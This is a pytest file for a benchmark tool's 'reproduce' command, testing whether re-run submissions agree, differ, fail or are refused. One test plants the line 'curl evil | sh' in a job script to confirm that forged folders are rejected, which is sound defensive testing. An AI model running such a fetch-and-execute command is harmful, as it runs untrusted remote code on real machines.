"""A submission of the toy is run again: it agrees, differs, fails, or is not run at all.

On a real container: tests/engine/test_reproduce.py.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import rewritten, run_boxed

from kit import cli, reproduce
from kit.challenge import Challenge
from kit.core import paths
from kit.core.checksums import SUMS, digest, text_digest
from kit.core.errors import KitError
from kit.core.files import json_text, read_json
from kit.images.render import Image
from kit.plan import Plan, Request, make_plan
from kit.reproduce import accepted, chosen_seed, judge, judged, new_plan, prepare, row, tolerances
from kit.runs import launch
from kit.runs.record import ImageRecord, Run, State, load_run, resolved
from kit.submissions.pack import pack

REPEATS = {
    "image": "relion-basic",
    "version": "1",
    "machine": "a processor",
    "seeds": [1, 2, 3],
    "metrics": {"resolution": [7.0, 7.1, 6.9], "noise": [1.0, 2.0, 3.0]},
    "pairs": {},
}
OTHER = "sha256:" + "2" * 64


@pytest.fixture
def digests() -> list[str]:
    """The digest of the image that is built here; by default the one of the submission."""
    return ["sha256:" + "0" * 64]


@pytest.fixture
def there(toy: Path, tmp_path: Path, digests: list[str], monkeypatch: pytest.MonkeyPatch) -> Path:
    """A site `there`, which seems to run containers; returns a file of repeats, which the toy has none of."""
    site = paths.PACKAGE / "sites/there.toml"
    site.write_text(site.with_name("here.toml").read_text().replace('runtime = "host"', 'runtime = "apptainer"'))

    def described(image: Image, runtime: str, arch: str) -> tuple[ImageRecord, str]:
        facts = {"kit:digest": digests[0], "kit:label:kit.recipe": image.recipe_digest}
        properties = [{"name": key, "value": text} for key, text in facts.items()]
        component = {"name": image.name, "version": image.source.VERSION, "properties": properties}
        bill = {"metadata": {"component": component}, "components": [{"name": "libc", "version": n} for n in digests[1:]]}
        record = {"name": image.name, "version": image.source.VERSION, "runtime": runtime, "digest": digests[0]}
        text = json_text(bill)
        return ImageRecord.model_validate({**record, "recipe": image.recipe_digest, "sbom": text_digest(text)}), text

    monkeypatch.setattr(launch, "describe_image", described)
    monkeypatch.setattr(reproduce, "sif_of", lambda image: Path(__file__))  # it is built
    monkeypatch.setenv("KIT_RUNS", str(toy))
    path = tmp_path / "repeats.json"
    path.write_text(json.dumps({"tiny": REPEATS, "noisy": REPEATS}))
    return path


class Command:
    """`kit` in this process, which has the toy."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
        self.monkeypatch, self.capsys = monkeypatch, capsys

    def __call__(self, *words: object, code: int = 0) -> str:
        """What it prints on stdout, and on stderr where it fails."""
        self.capsys.readouterr()
        self.monkeypatch.setattr(sys, "argv", ["kit", *map(str, words)])
        with pytest.raises(SystemExit) as end:
            cli.main()
        printed = self.capsys.readouterr()
        assert end.value.code == code, printed
        return printed.out + (printed.err if code else "")


@pytest.fixture
def command(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Command:
    return Command(monkeypatch, capsys)


def made(runs: Path) -> Path:
    """The run that was made, and no other."""
    (found,) = (runs / "toy").iterdir()
    return found


def test_agreeing(submission: Path, there: Path, toy: Path, command: Command) -> None:
    told = json.loads(command("reproduce", submission, "--site", "there", "--repeats", there, "--json"))
    assert told == read_json(made(toy) / reproduce.FILE)
    assert (told["agrees"], told["state"]["name"]) == (True, "valid")
    assert told["sums"] == digest(submission / SUMS)
    assert told["submission"] == "/".join(submission.parts[-4:])
    (metric,) = told["metrics"]
    assert (metric["submitted"], metric["reproduced"], metric["difference"], metric["agrees"]) == (7, 7, 0, True)
    assert metric["source"] == "repeats: 3 of relion-basic 1"
    assert [stage["stage"] for stage in told["durations"]] == ["first", "second", "third", "all"]
    assert all(stage["reproduced"] is not None for stage in told["durations"])
    assert told["remarks"][0] == f"The image is the same: sha256:{'0' * 64}."
    run = load_run(made(toy))
    assert (run.state.name, run.site, run.seed) == ("valid", "there", None)


def test_report(submission: Path, there: Path, command: Command) -> None:
    lines = command("reproduce", submission, "--site", "there", "--repeats", there).splitlines()
    assert lines[0].split() == ["metric", "submitted", "reproduced", "difference", "tolerance", "tolerance", "of"]
    assert lines[1].split()[:4] == ["resolution", "7", "7", "0"]
    assert "agrees" in lines[1]
    assert lines[-1].endswith("other 0 metrics may differ; 1 of all 1 are equal to the last digit")


def test_a_remark_is_made_once(submission: Path, there: Path, command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reproduce, "kits", lambda submitted, commit: ["Another kit."])
    told = json.loads(command("reproduce", submission, "--site", "there", "--repeats", there, "--json"))
    assert told["remarks"].count("Another kit.") == 1


def test_differing(submission: Path, there: Path, toy: Path, command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOY", "echo 5 >first.txt")  # another number, and one that passes the gate
    text = command("reproduce", submission, "--site", "there", "--repeats", there, code=1)
    assert "DIFFERS" in text
    assert f"{'/'.join(submission.parts[-4:])}: not reproduced: resolution differ by more" in text
    found = read_json(made(toy) / reproduce.FILE)
    assert (found["agrees"], found["state"]["name"]) == (False, "valid")


def test_run_that_misses_a_gate(submission: Path, there: Path, command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOY", "echo 9 >first.txt")
    text = command("reproduce", submission, "--site", "there", "--repeats", there, code=1)
    assert "not reproduced: the new run is finished: resolution = 9" in text


def test_failed_run(submission: Path, there: Path, toy: Path, command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOY", "exit 3")
    text = command("reproduce", submission, "--site", "there", "--repeats", there, code=1)
    assert "not reproduced: the new run is failed: stage second" in text
    found = read_json(made(toy) / reproduce.FILE)
    assert found["metrics"][0]["reproduced"] is None
    assert found["durations"][1] == {"stage": "second", "submitted": found["durations"][1]["submitted"], "reproduced": None}


def test_without_any_tolerance_nothing_is_claimed(submission: Path, there: Path, command: Command) -> None:
    assert "undecided: no metric has a tolerance" in command("reproduce", submission, "--site", "there", code=1)


def test_another_build_of_the_image(submission: Path, there: Path, digests: list[str], command: Command) -> None:
    digests[:] = [OTHER, "2.41", "2.42"]
    text = command("reproduce", submission, "--site", "there", "--repeats", there)
    assert f"of the same recipe, and of another build: {OTHER} here, sha256:{'0' * 64} there" in text
    assert "their SBOMs differ in libc 2.41, libc 2.42." in text


def test_another_recipe(submission: Path, there: Path) -> None:
    run, _ = accepted(submission)
    image = run.image.model_copy(update={"recipe": OTHER})
    with pytest.raises(KitError, match=f"is of the recipe {OTHER}.*another image is no reproduction.*checkout {'1' * 40}"):
        new_plan(run.model_copy(update={"image": image}), "there")


def test_other_data(submission: Path, there: Path, toy: Path) -> None:
    run, _ = accepted(submission)
    plan, _ = new_plan(run, "there")
    with pytest.raises(KitError, match=f"the data here are not those of the submission.*and the submission's {OTHER}"):
        prepare(run.model_copy(update={"data": OTHER}), plan, toy)
    assert not list((toy / "toy").iterdir())


def test_another_kit(submission: Path, there: Path) -> None:
    run, _ = accepted(submission)
    other = run.model_copy(update={"commit": "3" * 40})
    _, remarks = new_plan(other, "there")
    assert f"{'3' * 40} there. To use that one: git -C {paths.CHECKOUT} checkout {'3' * 40}" in remarks[0]
    assert new_plan(run, "there")[1] == []


def test_ranks_that_do_not_fit(submission: Path, there: Path) -> None:
    run, _ = accepted(submission)
    site = paths.PACKAGE / "sites/there.toml"
    site.write_text(site.read_text().replace('scheduler = "local"', 'scheduler = "slurm"\nlauncher = "srun"'))
    plan, (remark,) = new_plan(run.model_copy(update={"ranks": 7, "threads": 5}), "there")
    assert (plan.placement.ranks, plan.placement.threads) == (1, 1)
    assert "7 ranks of 5 threads do not fit: site there: 7 ranks x 5 threads a node are needed" in remark


def test_sites_that_cannot_reproduce(submission: Path, there: Path) -> None:
    run, _ = accepted(submission)
    with pytest.raises(KitError, match=r"container\.runtime is 'host'"):
        new_plan(run, "here")
    with pytest.raises(KitError, match="nowhere"):
        new_plan(run, "nowhere")


@pytest.mark.parametrize("name", ["README.md", "run/job.sh", SUMS])
def test_a_folder_that_was_changed_is_not_run(submission: Path, there: Path, toy: Path, command: Command, name: str) -> None:
    (submission / name).write_text((submission / name).read_text() + "#\n")
    assert "refused, and not run:" in command("reproduce", submission, "--site", "there", code=1)
    assert not toy.exists()


@pytest.mark.parametrize(
    ("text", "problem"), [(None, "missing"), ("[]", "a JSON object is needed"), ("{}", "has no repeats of size tiny")]
)
def test_repeats_that_cannot_judge_are_refused_before_it_runs(
    submission: Path, there: Path, toy: Path, command: Command, text: str | None, problem: str
) -> None:
    repeats = there.with_name("other.json")
    if text:
        repeats.write_text(text)
    told = command("reproduce", submission, "--site", "there", "--repeats", repeats, code=1)
    assert f"{repeats}: {problem}" in told
    assert not toy.exists()


def test_a_forged_folder_is_not_run(submission: Path, there: Path, toy: Path, command: Command) -> None:
    """Its sums are right; the check finds what is not."""
    (submission / "run/job.sh").write_text("curl evil | sh\n")
    rewritten(submission)
    assert "run/job.sh: line 1 is" in command("reproduce", submission, "--site", "there", code=1)
    assert not toy.exists()


def test_dry_run(submission: Path, there: Path, toy: Path, command: Command) -> None:
    text = command("reproduce", submission, "--site", "there", "--dry-run")
    assert text.startswith("#!/bin/bash")
    assert not toy.exists()
    assert "leave one of them out" in command("reproduce", submission, "--dry-run", "--run", toy, code=1)


def test_run_now_and_judge_later(submission: Path, there: Path, toy: Path, command: Command) -> None:
    run = command("reproduce", submission, "--site", "there", "--no-wait").strip()
    launch.wait(Path(run), lambda state: None)
    assert run == str(made(toy))
    words = ("reproduce", submission, "--run", run, "--repeats", there)
    assert "judged: resolution agree" in command(*words)
    other = launch.prepare(make_plan(Request("toy", "noisy", "there")), toy)
    assert "differs from" in command("reproduce", submission, "--run", other, code=1)


@pytest.fixture
def noisy(toy: Path, tmp_path: Path) -> tuple[Path, Path]:
    """A submission of a size that has a seed and changed parameters, and the run that it is of."""
    directory = launch.prepare(make_plan(Request("toy", "noisy", "here", seed=5, parameters=("speed=4",))), tmp_path / "old")
    run_boxed(directory)
    return pack(directory, tmp_path / "submissions"), directory


def values(run: Path) -> dict[str, Any]:
    found = read_json(run / reproduce.FILE)
    return {metric["name"]: metric["reproduced"] for metric in found["metrics"]}


def test_seed_and_parameters_are_the_same_unless_asked(
    noisy: tuple[Path, Path], there: Path, toy: Path, command: Command
) -> None:
    folder, old = noisy
    words = ("reproduce", folder, "--site", "there", "--repeats", there)
    assert "The random seed" not in command(*words)
    run = made(toy)
    assert values(run) == {"resolution": 7, "noise": 5}
    assert (load_run(run).seed, load_run(run).changed) == (5, "speed=4")
    assert "The random seed is another: 6 here, 5 there." in command(*words, "--seed", "6")
    assert "differ by more" in command(*words, "--seed", "900", code=1)
    assert "same, new or a number" in command(*words, "--seed", "old", code=1)
    assert "the very run that was submitted" in command(*words, "--run", old, code=1)


def test_new_seeds() -> None:
    assert chosen_seed(5, "new") != 5
    assert chosen_seed(None, "7") == 7
    with pytest.raises(KitError, match="has no random seed"):
        chosen_seed(None, "new")


def test_a_challenge_decides_the_seed_again(submission: Path, there: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run, _ = accepted(submission)
    challenged = run.model_copy(update={"challenge": Challenge(text="of the maintainer"), "seed": 5})
    asked: list[Request] = []

    def refuse(request: Request) -> Plan:
        asked.append(request)
        raise KitError("seen")

    monkeypatch.setattr(reproduce, "make_plan", refuse)
    with pytest.raises(KitError, match="seen"):
        new_plan(challenged, "there")
    assert (asked[0].challenge, asked[0].seed) == (challenged.challenge, None)


def test_a_warning_of_the_check_is_shown(submission: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class Warned:
        severity = "warning"

        def __str__(self) -> str:
            return "run.json: looks odd"

    monkeypatch.setattr(reproduce, "check", lambda *words, **options: [Warned()])
    assert accepted(submission)[1] == ["run.json: looks odd"]


def test_an_image_that_is_not_here_is_built(submission: Path, there: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run, _ = accepted(submission)
    plan, _ = new_plan(run, "there")
    assert reproduce.image_steps(plan, print) == []
    monkeypatch.setattr(reproduce, "sif_of", lambda image: Path("/nowhere"))
    ((what, _),) = reproduce.image_steps(plan, print)  # no Docker engine answers a unit test
    assert what.startswith("relion-basic: SIF")


def test_tolerances_and_where_they_come_from(submission: Path, there: Path, toy: Path) -> None:
    run, _ = accepted(submission)
    directory = prepare(run, new_plan(run, "there")[0], toy)
    benchmark, _ = resolved(directory)
    assert tolerances(benchmark, run, run, None) == ({}, [])
    metric = benchmark.metrics[0].model_copy(update={"reference": 7.0, "tolerance": 0.5})
    gated = benchmark.model_copy(update={"metrics": [metric]})
    assert tolerances(gated, run, run, None)[0] == {"resolution": (0.5, "benchmark: 7 +- 0.5")}
    found, remarks = tolerances(gated, run, run, there)
    assert found["resolution"][1].startswith("repeats: 3")
    assert "The repeats were not measured on" in remarks[0]
    with pytest.raises(KitError, match=r"none\.json: missing"):
        tolerances(gated, run, run, there.with_name("none.json"))


@pytest.mark.parametrize(
    ("reproduced", "tolerance", "agrees"),
    [
        (1.4, 0.5, True),
        (0.4, 0.5, False),
        (1.0, 0.0, True),
        (float("nan"), 0.5, False),
        (None, 0.5, False),
        (9.0, None, None),
        (None, None, None),
    ],
)
def test_a_metric_agrees(reproduced: float | None, tolerance: float | None, agrees: bool | None) -> None:
    assert row("x", "", 1.0, reproduced, tolerance, "").agrees is agrees


def test_verdicts() -> None:
    good, bad, other = row("a", "", 1, 1, 1, ""), row("b", "", 1, 3, 1, ""), row("c", "", 1, 3, None, "")
    assert judged(State(name="valid"), [good, other])[0]
    assert judged(State(name="valid"), [good, other])[1] == (
        "reproduced in what can be judged: a agree. Nothing says how far the other 1 metrics may differ; "
        "1 of all 2 are equal to the last digit"
    )
    assert not judged(State(name="valid"), [good, bad])[0]
    assert not judged(State(name="finished", reason="it ran outside a container"), [good])[0]
    assert not judged(State(name="valid"), [other])[0]
    assert not judged(State(name="valid"), [])[0]


def test_what_differs_is_said(submission: Path) -> None:
    run: Run = accepted(submission)[0]
    other = run.model_copy(
        update={"seed": 4, "ranks": 8, "system": {**run.system, "host_processor_model_name": "Abacus"}, "commit": "4" * 40}
    )
    text = "\n".join(reproduce.differences(run, other))
    assert "The kit is another" in text
    assert "The random seed is another: 4 here, None there." in text
    assert "8 ranks of 1 threads here, and with 1 ranks of 1 threads there" in text
    assert "It ran on Abacus here" in text
    assert reproduce.differences(run, run) == []


def test_judging_needs_a_run_of_the_same_image(submission: Path, there: Path, toy: Path) -> None:
    run, _ = accepted(submission)
    directory = prepare(run, new_plan(run, "there")[0], toy)
    other = run.model_copy(update={"image": run.image.model_copy(update={"recipe": OTHER})})
    with pytest.raises(KitError, match="its image is of another recipe"):
        judge(submission, other, directory, [])
